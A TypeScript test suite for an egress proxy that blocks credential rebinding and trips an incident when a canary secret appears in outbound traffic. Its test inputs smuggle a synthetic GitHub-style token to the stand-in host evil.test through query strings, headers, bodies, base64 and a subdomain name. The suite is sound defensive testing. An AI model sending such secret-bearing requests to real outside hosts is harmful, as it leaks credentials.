import { once } from 'node:events';
import { connect } from 'node:net';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { WebSocket, WebSocketServer } from 'ws';
import { ControlClient } from '../../../extension/core/egress/controlClient.ts';
import type { Route } from '../../../schemas/policy/route.ts';
import type { WatchedSecret } from '../../../schemas/protocol/control.ts';
import type { Incident } from '../../../schemas/protocol/incident.ts';
import { controlHandler } from '../../../sidecars/egress/control.ts';
import { IncidentSwitch } from '../../../sidecars/egress/incident.ts';
import { startControlServer } from '../../../sidecars/runtime/controlServer.ts';
import type { ControlServer } from '../../../sidecars/runtime/controlServer.ts';
import { LineLog } from '../../../sidecars/runtime/lineLog.ts';
import { until } from '../../support/until.ts';
import { answerOk, rawValues } from './upstream.ts';
import { SECRET, ask, connectAnswer, expectDenied, get, openTunnel, startWorld, talk, usualRoutes, wholeAnswer } from './world.ts';
import type { World } from './world.ts';

let world: World;
let server: ControlServer;
let log: LineLog;
let client: ControlClient;
let allow: string;
let open: string;

/** A proxy of its own with its control channel: an incident is for good. */
async function start(): Promise<void> {
  world = await startWorld();
  allow = `allow.test:${world.allow.port}`;
  open = `open.test:${world.open.port}`;
  log = new LineLog(join(world.folder, 'control.jsonl'));
  const path = join(world.folder, 'control.sock');
  server = await startControlServer(path, controlHandler(world.proxy, log, () => undefined));
  const stream = connect({ path });
  await once(stream, 'connect');
  client = await ControlClient.connect(stream);
  world.configure(usualRoutes(world));
}

async function end(): Promise<void> {
  await client.close();
  server.close();
  log.close();
  await world.close();
}

describe('a change of routes that comes by the control channel', () => {
  beforeAll(start);
  afterAll(end);
  beforeEach(() => {
    world.allow.handler = answerOk;
    world.configure(usualRoutes(world));
  });

  const bound = (): Route => ({ host: allow, auth_scheme: 'Bearer', token_env: 'SLOT', private_addresses: true });

  test('cannot move a credential to another host, and the last good policy stays', async () => {
    const moved: Route[] = [{ ...bound(), host: open }];
    await expect(client.replaceRoutes({ log: 2, routes: moved })).rejects.toThrow(new RegExp(`SLOT to open\\.test:${world.open.port}; it was given for allow\\.test:${world.allow.port} only`));
    const before = world.open.requests.length;
    expect(await ask(world, open, get(open))).toMatch(/^HTTP\/1\.1 200 /);
    expect(world.open.requests.slice(before).map(({ raw }) => raw.join(' ')).join()).not.toContain(SECRET);
    await ask(world, allow, get(allow));
    expect(rawValues(world.allow.requests.at(-1)?.raw ?? [], 'authorization')).toEqual([`Bearer ${SECRET}`]);
  });

  test('cannot move it in two steps: a slot stays bound while no route names it', async () => {
    await client.replaceRoutes({ log: 2, routes: [{ host: open, private_addresses: true }] });
    await expect(client.replaceRoutes({ log: 2, routes: [{ ...bound(), host: open }] })).rejects.toThrow('it was given for');
    await client.replaceRoutes({ log: 2, routes: [bound()] });
    expect(await ask(world, allow, get(allow))).toMatch(/^HTTP\/1\.1 200 /);
  });

  test('cannot write it in another way, or name one that does not exist', async () => {
    await expect(client.replaceRoutes({ log: 2, routes: [{ ...bound(), auth_scheme: 'query:key' }] })).rejects.toThrow('was given as Bearer only');
    await expect(client.replaceRoutes({ log: 2, routes: [bound(), { host: open, auth_scheme: 'Bearer', token_env: 'OTHER' }] })).rejects.toThrow('OTHER, which does not exist');
  });

  test('may narrow the route of a credential, and add one that a person gives a value', async () => {
    const narrow: Route = { ...bound(), matches: [{ methods: ['POST'] }] };
    await client.replaceRoutes({ log: 2, routes: [narrow, { host: open, auth_scheme: 'token', token_env: 'NEW', private_addresses: true }] }, { SLOT: SECRET, NEW: 'second-credential' });
    await expectDenied(world, world.allow, () => ask(world, allow, get(allow)));
    await ask(world, open, get(open));
    expect(rawValues(world.open.requests.at(-1)?.raw ?? [], 'authorization')).toEqual(['token second-credential']);
    await expect(client.replaceRoutes({ log: 2, routes: [{ ...bound(), token_env: 'NEW' }] })).rejects.toThrow('it was given for open.test');
  });
});

/** Synthetic, shaped like the real thing. */
const bait = 'ghp_Qm7T2xVb9LkRz4WcYd8NfGh3JsPa6EuXo1iC';
const canary: WatchedSecret = { kind: 'canary', name: 'the variable BAIT', value: bait, home: [] };

describe('an incident', () => {
  const told: Incident[] = [];
  beforeEach(async () => {
    await start();
    told.length = 0;
    client.onIncident((incident) => told.push(incident));
    await client.follow(0, () => undefined);
    world.configure(usualRoutes(world), { secrets: [canary], log: 0 });
  });
  afterEach(end);

  const recorded = (): unknown => JSON.parse(readFileSync(join(world.folder, 'incident.json'), 'utf8'));

  test.each([
    ['in a header', () => get(open, '/', `X-Note: ${bait}\r\n`), 'header x-note'],
    ['in the path', () => get(open, `/${bait}`), 'path'],
    ['in base64 in the query', () => get(open, `/?q=${Buffer.from(bait).toString('base64url')}`), 'query'],
    ['in a body', () => `POST / HTTP/1.1\r\nHost: ${open}\r\nContent-Length: ${bait.length + 6}\r\n\r\nabc${bait}def`, 'body'],
    ['in a request that the policy refuses', () => get('evil.test', `/?x=${bait}`), 'query'],
  ])('begins with a canary %s: nothing reaches the upstream, the host is told, the record is there at log level 0', async (_name, request, where) => {
    const { answer } = await expectDenied(world, world.open, () => ask(world, open, request()));
    expect(answer).toMatch(/^HTTP\/1\.1 403 [\s\S]*"clause":"incident"[\s\S]*"do_not_retry":true/);
    expect(answer).not.toContain(bait);
    const incident = { canary: 'the variable BAIT', method: request().split(' ')[0], where: expect.stringContaining(where) };
    await until('the host to be told', () => told.length > 0);
    expect(told).toEqual([expect.objectContaining(incident)]);
    expect(recorded()).toEqual(told[0]);
    expect(world.log()).toEqual([expect.objectContaining({ event: 'incident', clause: 'incident', verdict: 'block' })]);
    expect(JSON.stringify(world.log())).not.toContain(bait);
  });

  test('begins with a canary in the name of a host that is not even listed', async () => {
    const name = `${bait.toLowerCase().replace('_', '-')}.evil.test:443`;
    const { socket, answer } = await connectAnswer(world, name);
    socket.destroy();
    expect(answer).toMatch(/^HTTP\/1\.1 403 [\s\S]*"clause":"incident"/);
    expect(recorded()).toMatchObject({ method: 'CONNECT', where: expect.stringContaining('host') });
  });

  test('does not begin where the canary goes to the agent\'s own model', async () => {
    world.configure(usualRoutes(world), { secrets: [{ ...canary, home: ['open.test'] }] });
    expect(await ask(world, open, get(open, `/?q=${bait}`))).toMatch(/^HTTP\/1\.1 200 /);
    expect(await client.health()).toMatchObject({ incident: null });
  });

  test('closes everything, cuts what is in flight, and outlives a new configuration', async () => {
    const tunnel = await openTunnel(world, open);
    const waiting = await openTunnel(world, allow);
    world.allow.handler = () => undefined;
    waiting.write(get(allow, '/slow'));
    await until('the request to have arrived', () => world.allow.requests.at(-1)?.url === '/slow');
    await ask(world, open, get(open, `/${bait}`));
    await until('the request to be cut', () => world.allow.sockets.size === 0);
    expect(await client.health()).toMatchObject({ incident: { canary: 'the variable BAIT', host: 'open.test' } });

    world.configure(usualRoutes(world));
    const { answer: inside } = await expectDenied(world, world.open, () => talk(tunnel, get(open), wholeAnswer));
    expect(inside).toMatch(/^HTTP\/1\.1 403 [\s\S]*the variable BAIT/);
    const { answer: outside, line } = await expectDenied(world, world.open, async () => {
      const refused = await connectAnswer(world, open);
      refused.socket.destroy();
      return refused.answer;
    });
    expect(outside).toMatch(/^HTTP\/1\.1 403 [\s\S]*"clause":"incident"/);
    expect(line).toMatchObject({ clause: 'incident' });
    tunnel.destroy();
    waiting.destroy();
  });

  test.each([
    ['another request', async (_near: WebSocket) => void (await ask(world, open, get(open, `/${bait}`)))],
    ['itself', async (near: WebSocket) => near.send(`look: ${bait}`)],
  ])('ends an open WebSocket, sighted in %s', async (_name, sight) => {
    world.configure([...usualRoutes(world).slice(1), { host: allow, websocket: true, private_addresses: true }], { secrets: [canary] });
    const far = new WebSocketServer({ noServer: true });
    const got: string[] = [];
    world.allow.upgrade = (request, socket, head) => far.handleUpgrade(request, socket, head, (one) => one.on('message', (data) => got.push(data.toString())).on('error', () => undefined));
    const tunnel = await openTunnel(world, allow);
    const near = new WebSocket(`ws://${allow}/`, { createConnection: () => tunnel });
    near.on('error', () => undefined);
    await once(near, 'open');
    near.send('hello');
    await until('the first message', () => got.length > 0);
    const closed = once(near, 'close');
    await sight(near);
    await closed;
    expect(got).toEqual(['hello']);
    await until('the incident', async () => (await client.health()).incident !== null);
  });

  test('keeps a proxy closed that starts again, also when its record is damaged', async () => {
    await ask(world, open, get(open, `/${bait}`));
    expect(new IncidentSwitch(join(world.folder, 'incident.json')).current).toMatchObject({ canary: 'the variable BAIT' });
    writeFileSync(join(world.folder, 'incident.json'), '{"at":');
    expect(new IncidentSwitch(join(world.folder, 'incident.json')).refusal('open.test')).toMatchObject({ status: 403, clause: 'incident' });
  });
});
